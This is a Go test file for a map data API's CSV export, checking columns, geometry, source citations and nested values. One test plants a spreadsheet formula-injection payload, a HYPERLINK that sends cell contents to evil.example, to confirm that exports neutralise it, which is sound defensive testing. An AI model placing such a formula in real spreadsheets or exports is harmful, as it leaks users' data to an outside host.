package web

import (
	"encoding/csv"
	"net/http"
	"slices"
	"strings"
	"testing"

	"github.com/frontier-map/frontier/internal/teststore"
)

func readCSV(t *testing.T, target string) (header []string, rows [][]string) {
	t.Helper()
	rec := get(t, newTestServer(t, newTestStore(t)), target)
	wantStatus(t, rec, http.StatusOK, "text/csv; charset=utf-8")
	body, ok := strings.CutPrefix(rec.Body.String(), utf8BOM)
	if !ok {
		t.Error("no UTF-8 byte order mark for spreadsheets")
	}
	recs, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return recs[0], recs[1:]
}

func TestCSV(t *testing.T) {
	h := newTestServer(t, newTestStore(t))
	for _, id := range collectionIDs {
		t.Run(id, func(t *testing.T) {
			header, rows := readCSV(t, "/collections/"+id+"/items?f=csv&limit=10000")
			fc := getItems(t, h, "/collections/"+id+"/items?limit=10000")
			if len(rows) != len(fc.Features) {
				t.Fatalf("%d rows, %d features", len(rows), len(fc.Features))
			}
			if !slices.Equal(header[:4], []string{"id", "wkt", "lon", "lat"}) || !slices.Contains(header, "sources") {
				t.Fatalf("header %v", header)
			}
			col := func(name string) int { return slices.Index(header, name) }
			for i, r := range rows {
				if len(r) != len(header) {
					t.Fatalf("row %d has %d cells for %d columns", i, len(r), len(header))
				}
				f := fc.Features[i]
				if r[0] != f.ID {
					t.Errorf("row %d id %q, want %v", i, r[0], f.ID)
				}
				wantWKT := map[string]string{"frontier": "LINESTRING(", "countries": "MULTIPOLYGON(", "places": "POINT("}[id]
				if f.Geometry == nil {
					if r[1] != "" || r[2] != "" {
						t.Errorf("%s: geometry cells %q %q for no geometry", r[0], r[1], r[2])
					}
				} else if wantWKT != "" && !strings.HasPrefix(r[1], wantWKT) {
					t.Errorf("%s: wkt %.40q", r[0], r[1])
				}
				if (f.Geometry != nil && f.Geometry.GeoJSONType() == "Point") != (r[2] != "" && r[3] != "") {
					t.Errorf("%s: lon/lat %q %q", r[0], r[2], r[3])
				}
				cell := r[col("sources")]
				for _, s := range f.Properties["sources"].([]any) {
					src := s.(map[string]any)
					want := src["publisher"].(string) + ": " + src["title"].(string)
					if u, ok := src["url"].(string); ok {
						want += " <" + u + ">"
					}
					if !strings.Contains(cell, want) {
						t.Errorf("%s: sources %q lack %q", r[0], cell, want)
					}
				}
			}
		})
	}
	t.Run("nested values", func(t *testing.T) {
		header, rows := readCSV(t, "/collections/frontier/items?f=csv&datetime=2025-02-01/2025-03-01")
		hist, both := slices.Index(header, "status_history"), slices.Index(header, "statuses_in_interval")
		found := false
		for _, r := range rows {
			if !strings.HasPrefix(r[hist], `[{"status":`) {
				t.Errorf("status_history %.60q is not compact JSON", r[hist])
			}
			found = found || r[both] == "contested; delimited"
		}
		if !found {
			t.Error("no row lists both statuses as joined names")
		}
	})
	t.Run("single feature", func(t *testing.T) {
		_, rows := readCSV(t, "/collections/places/items/"+getItems(t, h, "/collections/places/items?limit=1").Features[0].ID.(string)+"?f=csv")
		if len(rows) != 1 {
			t.Errorf("%d rows", len(rows))
		}
	})
}

// TestCSVFormulaCells: text from imported rows that a spreadsheet would
// run as a formula arrives in f=csv with a leading ' (OWASP's advice);
// numbers are left as they are.
func TestCSVFormulaCells(t *testing.T) {
	ds := loadDataset(t)
	ds.Events = slices.Clone(ds.Events)
	e := &ds.Events[0]
	e.Notes = `=HYPERLINK("http://evil.example/?"&A1;"click")`
	e.Admin1 = "@SUM(A1)"
	h := newTestServer(t, teststore.New(t, ds))
	rec := get(t, h, "/collections/clashes/items?f=csv&limit=10000")
	wantStatus(t, rec, http.StatusOK, "text/csv; charset=utf-8")
	recs, err := csv.NewReader(rec.Body).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	found := 0
	for _, r := range recs[1:] {
		for _, cell := range r {
			if cell != "" && strings.ContainsRune("=+@\t\r", rune(cell[0])) {
				t.Errorf("cell %q would run as a formula", cell)
			}
			if cell == `'`+e.Notes || cell == "'@SUM(A1)" {
				found++
			}
		}
	}
	if found != 2 {
		t.Errorf("%d of the 2 neutralised cells found", found)
	}
}
